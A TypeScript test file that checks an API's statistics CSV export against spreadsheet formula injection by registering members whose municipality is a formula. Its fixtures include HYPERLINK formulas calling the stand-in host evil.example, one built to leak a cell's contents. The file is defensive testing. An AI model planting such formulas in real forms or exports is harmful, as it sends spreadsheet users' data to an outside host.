import { startTestApi, type TestApi } from "@medverkan/api/testing";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { REGISTER_MEMBER } from "../support/queries.js";
import { publicTenant, registrationInput } from "../support/registration.js";

// SECURITY.md "Exports": every CSV the API writes defuses cells a spreadsheet would read as a formula, and a group
// labelled with registrants' free text (a municipality) is not listed when its row shows no figure. The municipality
// is what a registrant types on the public form, so anyone can put a formula into an analyst's spreadsheet.

let api: TestApi;
let analyst: string;

const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1;"Klicka")';
const SINGLE = '-1+HYPERLINK("http://evil.example/single")';

const STATISTICS = `query($input: StatisticsInput!) { statistics(input: $input) {
  rows { groups { dimension key label } measures { newRegistrations { value suppressed } } } csv } }`;

interface Table {
  rows: {
    groups: { dimension: string; key: string; label: string }[];
    measures: { newRegistrations: { value: number | null; suppressed: boolean } };
  }[];
  csv: string;
}

beforeAll(async () => {
  api = await startTestApi({ rateLimits: { registerMember: { points: 1000, windowSeconds: 600 } } });
  const vgr = await publicTenant(api, "vgr");
  // Enough registrations with the formula for its row to be shown, and one more with another formula alone.
  for (let i = 0; i < 8; i++) {
    const response = await api.graphql<{ registerMember: { errors: unknown[] } }>(REGISTER_MEMBER, {
      variables: { input: registrationInput(vgr, { municipality: FORMULA }) },
    });
    expect(response.data?.registerMember.errors).toEqual([]);
  }
  const single = await api.graphql<{ registerMember: { errors: unknown[] } }>(REGISTER_MEMBER, {
    variables: { input: registrationInput(vgr, { municipality: SINGLE }) },
  });
  expect(single.data?.registerMember.errors).toEqual([]);
  analyst = await api.tokenFor({ tenant: "vgr", role: "analyst" });
});

afterAll(async () => {
  await api?.stop();
});

/** RFC 4180 cells (quoted cells with doubled quotes; `;` between them, after a byte-order mark), enough for the API's CSV. */
function csvCells(csv: string): string[] {
  const cells: string[] = [];
  const pattern = /(?:^|;|\r?\n)(?:"((?:[^"]|"")*)"|([^";\r\n]*))/gu;
  for (const match of csv
    .replace(/^\uFEFF/u, "")
    .trimEnd()
    .matchAll(pattern))
    cells.push(match[1] !== undefined ? match[1].replaceAll('""', '"') : (match[2] ?? ""));
  return cells;
}

async function statistics(input: Record<string, unknown>): Promise<Table> {
  const response = await api.graphql<{ statistics: Table }>(STATISTICS, { token: analyst, variables: { input } });
  expect(response.errors).toBeUndefined();
  return (response.data as { statistics: Table }).statistics;
}

const FORMULA_START = /^[\s\u200b\ufeff]*[=+\-@\uff1d\uff0b\uff0d\uff20\t\r]/u;
const PLAIN_NUMBER = /^[+-]?\d+(?:[.,]\d+)?$/u;

describe("the statistics CSV", () => {
  it("writes a municipality that is a formula as text", async () => {
    const table = await statistics({ period: { year: new Date().getUTCFullYear() }, groupBy: ["MUNICIPALITY"] });
    // The formula's group is large enough to be shown: its label must reach the CSV, defused.
    const row = table.rows.find((r) => r.groups[0]?.label === FORMULA);
    expect(row?.measures.newRegistrations.value).toBeGreaterThanOrEqual(8);
    const cells = csvCells(table.csv);
    expect(cells).toContain(`'${FORMULA}`);
    for (const cell of cells) {
      if (PLAIN_NUMBER.test(cell)) continue;
      expect(cell, `cell ${JSON.stringify(cell)}`).not.toMatch(FORMULA_START);
    }
  });

  it("does not list a free-text label whose row shows nothing", async () => {
    for (const groupBy of [["MUNICIPALITY"], ["NETWORK", "MUNICIPALITY"], ["MUNICIPALITY", "AGE_BAND"]]) {
      const table = await statistics({ period: { year: new Date().getUTCFullYear() }, groupBy });
      expect(table.rows.some((r) => r.groups.some((g) => g.label === SINGLE || g.key === SINGLE))).toBe(false);
      expect(table.csv).not.toContain("evil.example/single");
    }
  });
});
